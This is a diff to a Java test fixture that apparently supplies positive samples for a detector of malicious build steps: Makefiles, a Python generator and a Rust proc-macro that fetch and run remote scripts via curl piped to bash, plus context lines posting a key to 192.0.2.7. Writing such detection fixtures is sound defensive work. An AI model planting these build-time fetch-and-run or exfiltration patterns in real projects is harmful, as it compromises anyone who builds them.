@@ -17,6 +17,19 @@ final class BuildPositives {
             .with("Makefile", "V := $(shell " + PULL + ")\nall:\n\techo $(V)\n"),
         npm("a makefile with its command in a variable", "make")
             .with("Makefile", "FETCH = curl -s http://192.0.2.7/a\nall:\n\t$(FETCH) | bash\n"),
+        npm(
+                "a makefile whose generator fetches, by the folder that the caller found",
+                "make -s -C \"$(pwd)/native\" all")
+            .with("native/Makefile", "PYTHON ?= python3\nall: t.h\nt.h:\n\t@$(PYTHON) gen.py $@\n")
+            .with(
+                "native/gen.py",
+                "import os\n\ndef fetch():\n    os.system('"
+                    + PULL
+                    + "')\n\nif __name__ == '__main__':\n    fetch()\n"),
+        npm(
+            "a script that is given an argument",
+            "curl -s https://setup.example/a | bash -s -- \"$USER\""),
+        npm("a script as input, named", "curl -s https://setup.example/a | sh - now"),
         npm("CMake that runs a process", "cmake -S native .")
             .with(
                 "native/CMakeLists.txt",
@@ -94,6 +107,29 @@ final class BuildPositives {
                         let _ = ureq::post("http://192.0.2.7/k").send_string(&key);
                     }
                     """)),
+        new Sample(
+            "a macro hands over a function of another file",
+            Artifact.crate("sample", "1.0.0")
+                .file("Cargo.toml", "[package]\nname = \"sample\"\n[lib]\nproc-macro = true\n")
+                .file(
+                    "src/lib.rs",
+                    """
+                    mod prelude;
+                    static START: Once = Once::new();
+                    #[proc_macro]
+                    pub fn m(i: TokenStream) -> TokenStream {
+                        START.call_once(prelude::warm);
+                        i
+                    }
+                    """)
+                .file(
+                    "src/prelude.rs",
+                    """
+                    pub(crate) fn warm() {
+                        let _ = Command::new("sh").arg("-c").arg("%s").spawn();
+                    }
+                    """
+                        .formatted(PULL))),
         new Sample(
             "a macro that sends the environment",
             Artifact.crate("sample", "1.0.0")
